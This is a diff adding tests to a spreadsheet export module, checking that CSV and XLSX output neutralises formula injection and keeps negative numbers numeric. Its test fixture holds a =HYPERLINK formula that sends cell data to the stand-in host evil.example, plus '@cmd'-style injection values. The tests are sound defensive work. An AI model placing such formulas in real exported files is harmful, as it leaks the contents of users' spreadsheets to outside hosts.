@@ -12,7 +12,38 @@ const input = {
   ],
 };
 
+const hostile = {
+  title: "Vehicles",
+  header: ["Name", "Km"],
+  body: [
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', -3],
+    ["@cmd", 1],
+    ["+1", 2],
+    ["\tx", 3],
+  ],
+};
+
 describe("exports", () => {
+  it("writes no live formula to csv and keeps negative numbers as numbers", async () => {
+    const text = await csvText(hostile);
+    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
+    expect(parsed.data.slice(1)).toEqual([
+      [`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "-3"],
+      ["'@cmd", "1"],
+      ["+1", "2"],
+      ["'\tx", "3"],
+    ]);
+  });
+  it("writes no formula to xlsx: text cells only, numbers stay numbers", async () => {
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(await xlsxBuffer(hostile));
+    const row = book.worksheets[0]?.getRow(2);
+    expect(row?.getCell(1).value).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
+    expect(row?.getCell(1).formula).toBeUndefined();
+    expect(row?.getCell(2).value).toBe(-3);
+    expect(book.worksheets[0]?.getRow(3).getCell(1).value).toBe("'@cmd");
+  });
+
   it("writes an xlsx that exceljs reads back", async () => {
     const buffer = await xlsxBuffer(input);
     const book = new ExcelJS.Workbook();
